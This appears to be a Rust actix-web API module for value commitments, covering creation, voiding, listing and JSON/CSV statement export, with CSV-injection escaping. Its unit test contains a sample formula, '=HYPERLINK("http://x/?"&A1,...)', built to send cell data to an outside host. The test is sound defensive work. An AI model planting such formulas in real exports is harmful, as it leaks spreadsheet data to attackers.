//! `/api/v1/commitments`: commit to a value target that the model's latest
//! simulation supports; read, list and void commitments.

use actix_web::http::header;
use actix_web::{HttpRequest, HttpResponse, web};
use serde::Deserialize;

use valueverse_agents::Records;
use valueverse_agents::architect::{ArchitectMsg, ModelStatus};
use valueverse_agents::committer::{
    Commitment, CommitmentRequest, CommitmentStatus, Committer, CommitterMsg, STATEMENT_MONTHS,
    SimulatedSupport, check_commitment,
};
use valueverse_agents::simulations::Simulations;
use valueverse_agents::statements::Statement;
use valueverse_agents::value::Expectation;
use valueverse_runtime::System;

use super::error::ErrorDoc;
use super::error::{ApiError, parse_json, parse_query};
use super::listing::list_page;
use super::schemas::committer as api;
use super::scope::Scope;
use super::value_models::ask_model;
use valueverse_agents::committer::list_commitments;

#[derive(Debug, Deserialize, utoipa::ToSchema)]
#[serde(deny_unknown_fields)]
struct CommitBody {
    model_id: String,
    /// [default: the model's current version]
    model_version: Option<i64>,
    /// 0.5 to 0.95: the probability the outcome reaches the target.
    #[schema(minimum = 0.5, maximum = 0.95)]
    confidence: f64,
    #[schema(minimum = -9007199254740991.0, maximum = 9007199254740991.0)]
    target: f64,
    terms: api::Terms,
    #[serde(default)]
    #[schema(max_items = 100)]
    milestones: Vec<api::Milestone>,
    /// The first day of the first statement period [default: today].
    start_date: Option<chrono::NaiveDate>,
    /// Months in a statement period: 1, 3, 6 or 12 [default: 1].
    #[serde(default = "monthly")]
    statement_months: u32,
}

fn monthly() -> u32 {
    1
}

async fn ask(
    system: &System,
    scope: &Scope,
    id: &str,
    msg: CommitterMsg,
) -> Result<Commitment, ApiError> {
    Ok(scope
        .agent::<Committer>(system, id)
        .ask(msg, system.runtime_config().ask_timeout)
        .await?)
}

#[utoipa::path(
    post,
    path = "/api/v1/commitments",
    tag = "committer",
    request_body = CommitBody,
    responses(
        (status = 201, description = "committed", body = api::Commitment),
        (status = 404, description = "not found", body = ErrorDoc),
        (status = 422, description = "invalid field, named", body = ErrorDoc),
    ),
    security(("bearer" = [])),
)]
pub(crate) async fn commit(
    scope: Scope,
    system: web::Data<System>,
    simulations: web::Data<Simulations>,
    body: web::Bytes,
) -> Result<HttpResponse, ApiError> {
    let body: CommitBody = parse_json(&body, false)?;
    let terms = body.terms.into();
    let milestones: Vec<_> = body.milestones.into_iter().map(Into::into).collect();
    check_commitment(body.confidence, Some(body.target), &terms, &milestones)
        .map_err(|error| ApiError::invalid_field(&error.path, error.message))?;
    if !STATEMENT_MONTHS.contains(&body.statement_months) {
        return Err(ApiError::invalid_field(
            "statement_months",
            format!(
                "must be one of {STATEMENT_MONTHS:?}, got {}",
                body.statement_months
            ),
        ));
    }
    if let Some(start) = body.start_date
        && !(2000..=2199).contains(&chrono::Datelike::year(&start))
    {
        return Err(ApiError::invalid_field(
            "start_date",
            format!("must be within 2000-01-01..=2199-12-31, got {start}"),
        ));
    }
    let (record, version) = ask_model(
        &system,
        &scope,
        &body.model_id,
        ArchitectMsg::Get {
            version: body.model_version,
        },
    )
    .await?;
    if record.status == ModelStatus::Archived {
        return Err(ApiError::invalid_field(
            "model_id",
            format!(
                "value model `{}` is archived: nothing can be committed to it",
                record.id
            ),
        ));
    }
    let at = record.version(version).expect("an existing version");
    let model = &at.model;
    // The committer decides; the simulation kind answers what it needs.
    // The most conservative of the recent evidence runs.
    let simulated = simulations
        .latest_evidence(scope.tenant(), &record.id, version)
        .await?
        .iter()
        .filter_map(|job| {
            let id = valueverse_runtime::split_key(&job.id).1;
            SimulatedSupport::of(id, job, body.confidence)
        })
        .min_by(|a, b| a.npv_at_confidence.total_cmp(&b.npv_at_confidence));
    let request = CommitmentRequest {
        model_id: record.id.clone(),
        model_version: version,
        model_name: model.name.clone(),
        currency: model.currency.clone(),
        confidence: body.confidence,
        target: body.target,
        terms,
        milestones,
        start_date: body.start_date,
        statement_months: body.statement_months,
        renews: None,
    };
    let expectation = Box::new(Expectation::of(at, Some(body.target)));
    let id = uuid::Uuid::now_v7().to_string();
    let commitment = ask(
        &system,
        &scope,
        &id,
        CommitterMsg::Commit {
            request: Box::new(request),
            simulated,
            min_paths: simulations.min_evidence_paths(),
            expectation,
        },
    )
    .await?;
    Ok(HttpResponse::Created()
        .insert_header((header::LOCATION, format!("/api/v1/commitments/{id}")))
        .json(api::Commitment::from(commitment)))
}

#[utoipa::path(
    get,
    path = "/api/v1/commitments/{id}",
    tag = "committer",
    params(
        ("id" = String, Path, description = "id"),
    ),
    responses(
        (status = 200, description = "the commitment", body = api::Commitment),
        (status = 404, description = "not found", body = ErrorDoc),
    ),
    security(("bearer" = [])),
)]
pub(crate) async fn get(
    scope: Scope,
    system: web::Data<System>,
    id: web::Path<String>,
) -> Result<HttpResponse, ApiError> {
    let commitment = ask(&system, &scope, &id, CommitterMsg::Get).await?;
    Ok(HttpResponse::Ok().json(api::Commitment::from(commitment)))
}

#[derive(Debug, Deserialize, utoipa::ToSchema)]
#[serde(deny_unknown_fields)]
struct VoidBody {
    #[schema(min_length = 1, max_length = 1000, pattern = "\\S")]
    reason: String,
}

#[utoipa::path(
    post,
    path = "/api/v1/commitments/{id}/void",
    tag = "committer",
    request_body = VoidBody,
    params(
        ("id" = String, Path, description = "id"),
    ),
    responses(
        (status = 200, description = "voided", body = api::Commitment),
        (status = 404, description = "not found", body = ErrorDoc),
        (status = 409, description = "conflict with the current state", body = ErrorDoc),
        (status = 422, description = "invalid field, named", body = ErrorDoc),
    ),
    security(("bearer" = [])),
)]
pub(crate) async fn void(
    scope: Scope,
    system: web::Data<System>,
    records: web::Data<Records>,
    id: web::Path<String>,
    body: web::Bytes,
) -> Result<HttpResponse, ApiError> {
    let body: VoidBody = parse_json(&body, false)?;
    let reason = ApiError::check_reason(&body.reason, 1000)?;
    let voided = ask(
        &system,
        &scope,
        &id,
        CommitterMsg::Void {
            reason: reason.to_owned(),
        },
    )
    .await;
    // The plans go with it; a void asked again (after a failure half way)
    // finishes what the first left.
    let commitment = match voided {
        Ok(commitment) => commitment,
        Err(error) => {
            let current = ask(&system, &scope, &id, CommitterMsg::Get).await?;
            if current.status == CommitmentStatus::Voided {
                super::plans::end_plans(&system, &records, &scope, &current.id, None, reason)
                    .await?;
            }
            return Err(error);
        }
    };
    super::plans::end_plans(&system, &records, &scope, &commitment.id, None, reason).await?;
    Ok(HttpResponse::Ok().json(api::Commitment::from(commitment)))
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ListQuery {
    model_id: Option<String>,
    status: Option<api::CommitmentStatus>,
    #[serde(default = "super::listing::default_limit")]
    limit: i64,
    #[serde(default)]
    offset: i64,
}

#[utoipa::path(
    get,
    path = "/api/v1/commitments",
    tag = "committer",
    params(
        ("model_id" = Option<String>, Query, description = "filter"),
        ("status" = Option<api::CommitmentStatus>, Query, description = "filter"),
        ("limit" = Option<i64>, Query, description = "1 to 100 [default: 20]"),
        ("offset" = Option<i64>, Query, description = "rows to skip [default: 0]"),
    ),
    responses(
        (status = 200, description = "a page of commitments", body = super::listing::PageOf<api::Commitment>),
    ),
    security(("bearer" = [])),
)]
pub(crate) async fn list(
    scope: Scope,
    records: web::Data<Records>,
    request: HttpRequest,
) -> Result<HttpResponse, ApiError> {
    let query: ListQuery = parse_query(request.query_string())?;
    list_page(
        (query.limit, query.offset),
        |page| {
            let status = query.status.map(Into::into);
            list_commitments(
                &records,
                scope.tenant(),
                query.model_id.as_deref(),
                status,
                page,
            )
        },
        api::Commitment::from,
    )
    .await
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct StatementsQuery {
    /// [default: from `Accept`, else `json`].
    format: Option<StatementFormat>,
}

/// How statements are answered.
#[derive(Debug, Clone, Copy, Deserialize, utoipa::ToSchema)]
#[serde(rename_all = "lowercase")]
enum StatementFormat {
    Json,
    Csv,
}

/// The statements of a commitment as the API shows them.
#[derive(Debug, serde::Serialize, utoipa::ToSchema)]
struct StatementsView {
    commitment_id: String,
    currency: String,
    /// Months in a period.
    statement_months: u32,
    statements: Vec<api::Statement>,
}

/// CSV when `?format=csv` or `Accept: text/csv` asks for it.
fn wants_csv(request: &HttpRequest) -> Result<bool, ApiError> {
    let query: StatementsQuery = parse_query(request.query_string())?;
    match query.format {
        Some(StatementFormat::Csv) => Ok(true),
        Some(StatementFormat::Json) => Ok(false),
        None => Ok(request
            .headers()
            .get(header::ACCEPT)
            .and_then(|accept| accept.to_str().ok())
            .is_some_and(|accept| accept.contains("text/csv"))),
    }
}

/// A text cell as a spreadsheet shows it, never as a formula: a cell
/// starting `=`, `+`, `-`, `@`, tab or return gets a leading `'` (as OWASP
/// advises for CSV injection).
fn as_text(cell: &str) -> String {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{cell}")
    } else {
        cell.to_owned()
    }
}

/// One row per driver line and one `total` row per statement.
fn statements_csv(commitment: &Commitment, statements: &[&Statement]) -> Result<String, ApiError> {
    let internal = |error: csv::Error| {
        ApiError::new(
            actix_web::http::StatusCode::INTERNAL_SERVER_ERROR,
            "internal",
            error.to_string(),
        )
    };
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record([
        "commitment_id",
        "currency",
        "period",
        "period_start",
        "period_end",
        "issued_at",
        "driver",
        "committed",
        "realized",
        "adjustment",
        "value_above_target",
        "fixed_fee",
        "outcome_fee",
        "fee",
        "fees_to_date",
    ])
    .map_err(internal)?;
    for statement in statements {
        let head = [
            as_text(&commitment.id),
            as_text(&commitment.request.currency),
            statement.period.to_string(),
            statement.period_start.to_string(),
            statement.period_end.to_string(),
            statement.issued_at.to_rfc3339(),
        ];
        for line in &statement.lines {
            let mut row = head.to_vec();
            row.extend([
                as_text(&line.driver),
                line.committed.to_string(),
                line.realized.to_string(),
                line.adjustment.to_string(),
                (line.realized + line.adjustment - line.committed).to_string(),
                String::new(),
                String::new(),
                String::new(),
                String::new(),
            ]);
            out.write_record(&row).map_err(internal)?;
        }
        let mut total = head.to_vec();
        total.extend([
            "total".to_owned(),
            statement.committed.to_string(),
            statement.realized.to_string(),
            statement.adjustments.to_string(),
            statement.value_above_target.to_string(),
            statement.fixed_fee.to_string(),
            statement.outcome_fee.to_string(),
            statement.fee.to_string(),
            statement.to_date.fees.to_string(),
        ]);
        out.write_record(&total).map_err(internal)?;
    }
    let bytes = out
        .into_inner()
        .map_err(|error| internal(error.into_error().into()))?;
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

fn statements_answer(
    request: &HttpRequest,
    commitment: &Commitment,
    statements: Vec<&Statement>,
) -> Result<HttpResponse, ApiError> {
    if wants_csv(request)? {
        return Ok(HttpResponse::Ok()
            .content_type("text/csv; charset=utf-8")
            .body(statements_csv(commitment, &statements)?));
    }
    Ok(HttpResponse::Ok().json(StatementsView {
        commitment_id: commitment.id.clone(),
        currency: commitment.request.currency.clone(),
        statement_months: commitment.request.statement_months,
        statements: statements.into_iter().cloned().map(Into::into).collect(),
    }))
}

/// Every statement issued, oldest first.
#[utoipa::path(
    get,
    path = "/api/v1/commitments/{id}/statements",
    tag = "committer",
    params(
        ("id" = String, Path, description = "id"),
        ("format" = inline(Option<StatementFormat>), Query, description = "[default: from `Accept`, else `json`]"),
    ),
    responses(
        (status = 200, description = "the statements (JSON, or CSV: a row per driver and a `total` row per statement)", content(
            (StatementsView = "application/json"),
            (String = "text/csv"),
        )),
        (status = 400, description = "bad query", body = ErrorDoc),
        (status = 404, description = "not found", body = ErrorDoc),
    ),
    security(("bearer" = [])),
)]
pub(crate) async fn statements(
    scope: Scope,
    system: web::Data<System>,
    id: web::Path<String>,
    request: HttpRequest,
) -> Result<HttpResponse, ApiError> {
    let commitment = ask(&system, &scope, &id, CommitterMsg::Get).await?;
    let all = commitment.statements.iter().collect();
    statements_answer(&request, &commitment, all)
}

/// One period's statement.
#[utoipa::path(
    get,
    path = "/api/v1/commitments/{id}/statements/{period}",
    tag = "committer",
    params(
        ("id" = String, Path, description = "id"),
        ("period" = u32, Path, description = "1 for the first period"),
        ("format" = inline(Option<StatementFormat>), Query, description = "[default: from `Accept`, else `json`]"),
    ),
    responses(
        (status = 200, description = "the statement, as a list of one", content(
            (StatementsView = "application/json"),
            (String = "text/csv"),
        )),
        (status = 400, description = "bad query", body = ErrorDoc),
        (status = 404, description = "no such commitment, or no statement of that period yet", body = ErrorDoc),
    ),
    security(("bearer" = [])),
)]
pub(crate) async fn statement(
    scope: Scope,
    system: web::Data<System>,
    path: web::Path<(String, String)>,
    request: HttpRequest,
) -> Result<HttpResponse, ApiError> {
    let (id, period) = path.into_inner();
    let commitment = ask(&system, &scope, &id, CommitterMsg::Get).await?;
    let found = period
        .parse::<u32>()
        .ok()
        .and_then(|period| commitment.statements.iter().find(|s| s.period == period));
    let Some(found) = found else {
        return Err(ApiError::new(
            actix_web::http::StatusCode::NOT_FOUND,
            "not_found",
            format!(
                "commitment `{id}` has no statement of period `{period}` ({} issued)",
                commitment.statements.len()
            ),
        )
        .with_field("period"));
    };
    statements_answer(&request, &commitment, vec![found])
}

#[cfg(test)]
mod tests {
    /// A driver named as a formula reaches a spreadsheet as text (the
    /// review's CSV injection).
    #[test]
    fn text_cells_never_read_as_formulas() {
        assert_eq!(
            super::as_text("=HYPERLINK(\"http://x/?\"&A1,\"pay\")"),
            "'=HYPERLINK(\"http://x/?\"&A1,\"pay\")"
        );
        for cell in ["+1", "-2", "@SUM(A1)", "\tx", "\rx"] {
            assert!(super::as_text(cell).starts_with('\''), "{cell:?}");
        }
        assert_eq!(super::as_text("ticket deflection"), "ticket deflection");
    }
}
